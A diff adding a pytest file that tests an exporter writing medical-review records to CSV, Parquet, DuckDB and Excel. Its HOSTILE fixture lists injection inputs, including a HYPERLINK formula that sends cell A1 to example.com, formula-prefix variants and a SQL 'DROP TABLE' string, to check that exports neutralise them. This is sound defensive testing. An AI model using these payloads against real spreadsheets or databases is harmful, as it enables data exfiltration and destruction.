@@ -1,0 +1,262 @@
+"""The formats hold the same values, whatever the letters hold, with their keys and meanings."""
+
+from __future__ import annotations
+
+import csv
+import json
+from collections.abc import Callable
+from datetime import date
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from imrllm.errors import StoreError
+from imrllm.export import TABLES, export
+from imrllm.export import workbook as workbook_module
+from imrllm.export.rows import rows_of
+from imrllm.export.tables import Row, Table
+from imrllm.records import Result
+from tests.export.made import failed, file_of, item, result
+
+duckdb = pytest.importorskip("duckdb", reason="duckdb is in the extra `export`")
+openpyxl = pytest.importorskip("openpyxl", reason="openpyxl is in the extra `export`")
+parquet = pytest.importorskip("pyarrow.parquet", reason="pyarrow is in the extra `export`")
+
+# What a letter may hold, and why it could go wrong.
+HOSTILE = {
+    "a formula": '=HYPERLINK("http://example.com/?"&A1,"open")',
+    "a formula by its sign": "+1+1",
+    "a formula by a minus": "-2+3",
+    "a formula by an at": "@SUM(A1)",
+    "a formula in full width": "\uff1d1+1",
+    "a tab before a formula": "\t=1+1",
+    "a line break before a formula": "\r\n=1+1",
+    "an apostrophe": "'quoted'",
+    "two apostrophes before a formula": "''=1",
+    "an error's name": "#N/A",
+    "quotes and commas": 'a "b", c; d',
+    "lines": "one\ntwo\r\nthree",
+    "a carriage return alone": "one\rtwo",
+    "a number": "007",
+    "a date": "1/2/2016",
+    "a truth": "TRUE",
+    "nothing": "",
+    "the word null": "NULL",
+    "spaces": "  two  ",
+    "a NUL": "one\0two",
+    "control characters": "\x01\x1b[31mred\x07\x0b",
+    "not characters": "\ufffe\uffff",
+    "right to left": "\u202egnirts",
+    "beyond the first plane": "\U0001f9ea \U00010348",
+    "Excel's own escape": "_x0041_ and _x000D_",
+    "markup": "<c t='n'>&amp;</c>]]>",
+    "SQL": "'); DROP TABLE items; --",
+    "long": "word " * 8_000,
+    "long, of pairs": "\U0001f9ea" * 16_384,
+}
+
+
+@pytest.fixture
+def results() -> list[Result]:
+    hostile = [
+        result(f"hostile {name}", item(heading=text, rationale=text, body_parts=(text,), date_of_service=date(1, 1, 1)))
+        for name, text in HOSTILE.items()
+    ]
+    return [result("a"), failed("=b"), *hostile]
+
+
+def expected(results: list[Result], table: Table) -> list[Row]:
+    return [row for each in results for row in rows_of(each)[table.name]]
+
+
+def listed(rows: list[Row]) -> list[Row]:
+    """Lists as DuckDB gives them."""
+    return [tuple(list(value) if isinstance(value, tuple) else value for value in row) for row in rows]
+
+
+def test_duckdb_holds_every_value(results: list[Result], tmp_path: Path) -> None:
+    exported = export(file_of(tmp_path, *results), tmp_path / "x.duckdb")
+    assert (exported.failed, exported.cut) == (1, 0)
+    with duckdb.connect(tmp_path / "x.duckdb", read_only=True) as database:
+        for table in TABLES:
+            rows = database.execute(f"SELECT * FROM {table.name}").fetchall()
+            assert rows == listed(expected(results, table)), table.name
+            assert exported.rows[table.name] == len(rows) > 0
+
+
+def test_parquet_holds_every_value(results: list[Result], tmp_path: Path) -> None:
+    export(file_of(tmp_path, *results), tmp_path / "x.parquet")
+    for table in TABLES:
+        file = tmp_path / "x.parquet" / f"{table.name}.parquet"
+        read = [tuple(row.values()) for row in parquet.read_table(file).to_pylist()]
+        assert read == listed(expected(results, table)), table.name
+        assert duckdb.read_parquet(str(file)).fetchall() == read, "and DuckDB reads it alike"
+
+
+def in_csv(value: Any) -> str:
+    if value is None:
+        return ""
+    if isinstance(value, bool):
+        return str(value).lower()
+    return "; ".join(value) if isinstance(value, tuple) else str(value)
+
+
+def test_csv_holds_every_value_and_no_formula(results: list[Result], tmp_path: Path) -> None:
+    export(file_of(tmp_path, *results), tmp_path / "x.csv")
+    for table in TABLES:
+        file = tmp_path / "x.csv" / f"{table.name}.csv"
+        with file.open(encoding="utf-8-sig", newline="") as stream:
+            header, *cells = csv.reader(stream)
+        assert header == [column.name for column in table.columns]
+        texts = [column.kind not in ("integer", "number", "boolean", "date") for column in table.columns]
+        for row in cells:
+            for text, cell in zip(texts, row, strict=True):
+                assert not text or not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d")), cell
+        # The dictionary's way back.
+        back = [
+            [cell.removeprefix("'") if text else cell for text, cell in zip(texts, row, strict=True)] for row in cells
+        ]
+        assert back == [[in_csv(value) for value in row] for row in expected(results, table)], table.name
+
+
+def test_a_negative_number_stays_one(tmp_path: Path) -> None:
+    checked = result("a", provenance=result().provenance.model_copy(update={"seconds": -1.5}))
+    export(file_of(tmp_path, checked), tmp_path / "documents.csv", only="documents")
+    assert (tmp_path / "documents.csv").read_bytes().endswith(b",-1.5\r\n")
+
+
+def test_duckdb_and_spreadsheets_know_the_csv_for_utf_8(results: list[Result], tmp_path: Path) -> None:
+    export(file_of(tmp_path, result("caf\u00e9", item(treatment="\u201cNorco\u201d"))), tmp_path / "x.csv")
+    file = tmp_path / "x.csv" / "items.csv"
+    assert file.read_bytes().startswith(b"\xef\xbb\xbfdocument_id,")
+    read = duckdb.sql(f"SELECT document_id, treatment, quantity, date_of_service FROM '{file}'").fetchall()
+    assert read == [("caf\u00e9", "\u201cNorco\u201d", 45.0, date(2016, 11, 11))]
+
+
+def in_excel(value: Any) -> Any:
+    if isinstance(value, tuple):
+        value = "; ".join(value)
+    if isinstance(value, date):
+        return value.isoformat()
+    if isinstance(value, str):
+        # openpyxl gives no empty text back, and XML has one kind of line break.
+        value = (
+            "".join(each for each in value if each in "\t\n\r" or each >= " ")
+            .replace("\ufffe", "")
+            .replace("\uffff", "")
+        )
+        value = value.replace("_x", "_x005F_x").replace("\r\n", "\n").replace("\r", "\n")
+        return value or None
+    return value
+
+
+def test_excel_holds_every_text_as_a_text(results: list[Result], tmp_path: Path) -> None:
+    exported = export(file_of(tmp_path, *results), tmp_path / "x.xlsx")
+    assert exported.cut == 6, "heading, rationale and body parts of the two long ones"
+    book = openpyxl.load_workbook(tmp_path / "x.xlsx")
+    assert book.sheetnames == ["data_dictionary", *(table.name for table in TABLES)]
+    for table in TABLES:
+        sheet = book[table.name]
+        rows = [[cell.value for cell in row] for row in sheet.iter_rows(min_row=2)]
+        for row, wanted in zip(rows, expected(results, table), strict=True):
+            for value, want in zip(row, wanted, strict=True):
+                shown = value.date().isoformat() if hasattr(value, "date") else value
+                whole = in_excel(want)
+                if isinstance(whole, str) and len(whole.encode("utf-16-le")) > 2 * 32_767:
+                    assert shown.endswith(" [cut]")
+                    assert len(shown.encode("utf-16-le")) <= 2 * 32_767
+                    assert whole.startswith(shown.removesuffix(" [cut]"))
+                else:
+                    assert shown == whole
+        assert {cell.data_type for row in sheet.iter_rows(min_row=2) for cell in row} <= {
+            "s",
+            "n",
+            "b",
+            "d",
+            "inlineStr",
+        }
+        assert (sheet.freeze_panes, sheet.auto_filter.ref) == ("A2", sheet.dimensions)
+    formula = next(cell for row in book["items"].iter_rows() for cell in row if str(cell.value).startswith("=HYP"))
+    assert (formula.data_type, formula.quotePrefix) == ("s", True), "nor is it one after an edit"
+
+
+def test_a_sheet_that_is_full_is_told_with_the_mend(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(workbook_module, "_ROWS", 90)
+    records = file_of(tmp_path, *(result(str(number)) for number in range(50)))
+    with pytest.raises(StoreError, match="`items` has more rows than the 90 of an Excel sheet") as refused:
+        export(records, tmp_path / "x.xlsx")
+    assert "`.duckdb`" in refused.value.hint
+    assert list(tmp_path.iterdir()) == [records]
+
+
+def test_duckdb_keeps_keys_and_meanings(tmp_path: Path) -> None:
+    export(file_of(tmp_path, result("a"), failed("b")), tmp_path / "x.duckdb")
+    with duckdb.connect(tmp_path / "x.duckdb") as database:
+        for refused in (
+            "INSERT INTO items SELECT * REPLACE ('nowhere' AS document_id) FROM items",
+            "INSERT INTO grounds VALUES ('a', 3, 'safety_risk')",
+            "INSERT INTO grounds VALUES ('a', 1, 'safety_risk')",
+            "INSERT INTO citations SELECT * REPLACE (9 AS item) FROM citations",
+            "INSERT INTO checks SELECT * REPLACE (9 AS check_number, 9 AS item) FROM checks LIMIT 1",
+        ):
+            with pytest.raises(duckdb.ConstraintException):
+                database.execute(refused)
+        said = database.execute(
+            "SELECT table_name, column_name, comment FROM duckdb_columns() WHERE NOT internal"
+        ).fetchall()
+        columns = {(table.name, column.name): column.description for table in TABLES for column in table.columns}
+        assert {(table, column): comment for table, column, comment in said if table != "data_dictionary"} == columns
+        dictionary = database.execute("SELECT table_name, column_name, description FROM data_dictionary").fetchall()
+        assert {(table, column): description for table, column, description in dictionary} == columns
+        keys = dict(
+            database.execute("SELECT column_name, key FROM data_dictionary WHERE table_name = 'checks'").fetchall()
+        )
+        assert (keys["document_id"], keys["check_number"], keys["item"]) == ("primary, items", "primary", "items")
+
+
+def test_parquet_keeps_meanings(tmp_path: Path) -> None:
+    export(file_of(tmp_path, result("a")), tmp_path / "items.parquet", only="items")
+    schema = parquet.read_schema(tmp_path / "items.parquet")
+    assert schema.metadata[b"primary_key"] == b"document_id, item"
+    assert schema.field("refills").metadata[b"description"].startswith(b"Number of refills")
+    assert not schema.field("heading").nullable
+
+
+@pytest.mark.parametrize("ending", ["csv", "parquet", "duckdb", "xlsx"])
+def test_no_results_are_empty_tables(tmp_path: Path, ending: str, rows_in: Callable[[Path], int]) -> None:
+    exported = export(file_of(tmp_path), tmp_path / f"x.{ending}")
+    assert set(exported.rows.values()) == {0}
+    assert rows_in(tmp_path / f"x.{ending}") == 0
+
+
+@pytest.fixture
+def rows_in() -> Callable[[Path], int]:
+    def count(path: Path) -> int:
+        if path.suffix == ".csv":
+            return len((path / "items.csv").read_text(encoding="utf-8-sig").splitlines()) - 1
+        if path.suffix == ".parquet":
+            return int(parquet.read_metadata(path / "items.parquet").num_rows)
+        if path.suffix == ".xlsx":
+            return int(openpyxl.load_workbook(path)["items"].max_row) - 1
+        with duckdb.connect(path, read_only=True) as database:
+            return len(database.execute("SELECT * FROM items").fetchall())
+
+    return count
+
+
+@pytest.mark.parametrize("ending", ["csv", "parquet", "duckdb", "xlsx"])
+def test_batches_lose_nothing(
+    tmp_path: Path, ending: str, rows_in: Callable[[Path], int], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr("imrllm.export.writing._BATCH", 3)
+    export(file_of(tmp_path, *(result(str(number)) for number in range(10))), tmp_path / f"x.{ending}")
+    assert rows_in(tmp_path / f"x.{ending}") == 20
+
+
+def test_a_lone_surrogate_is_no_result(tmp_path: Path) -> None:
+    row = result("a").model_dump(mode="json")
+    row["record"]["disputed_items"][0]["heading"] = "\ud800"
+    (tmp_path / "records.jsonl").write_text(json.dumps(row))
+    with pytest.raises(StoreError, match="line 1 is not a result"):
+        export(tmp_path / "records.jsonl", tmp_path / "x.csv")
